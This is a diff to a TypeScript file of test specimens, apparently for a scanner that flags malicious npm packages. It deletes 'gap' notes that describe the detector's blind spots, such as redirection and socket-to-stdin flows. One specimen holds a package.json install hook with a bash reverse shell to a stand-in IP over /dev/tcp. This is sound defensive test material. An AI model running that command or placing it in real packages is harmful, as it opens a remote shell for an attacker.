@@ -22,7 +22,6 @@ export const specimens: readonly Specimen[] = [
 `,
     },
     expect: 'warn',
-    gap: 'running what a request says, when called, is only context',
     happens: { at: 'call', does: 'evaluates' },
   },
   {
@@ -32,7 +31,6 @@ export const specimens: readonly Specimen[] = [
       'package.json': hooked('bash -c "bash -i >& /dev/tcp/192.0.2.5/4444 0>&1"'),
     },
     expect: 'block',
-    gap: 'the redirection is not read as a part of the inner command',
   },
   {
     name: 'backdoor-mkfifo',
@@ -72,7 +70,6 @@ connect();
 `,
     },
     expect: 'block',
-    gap: 'data of a constructed socket is not followed into stdin of a process',
     happens: { at: 'install and import', does: 'spawns' },
   },
   {
@@ -94,7 +91,6 @@ conn.on('ready', () => {
 `,
     },
     expect: 'block',
-    gap: 'a channel handed out by an event is not followed',
     happens: { at: 'import', does: 'spawns' },
   },
   {
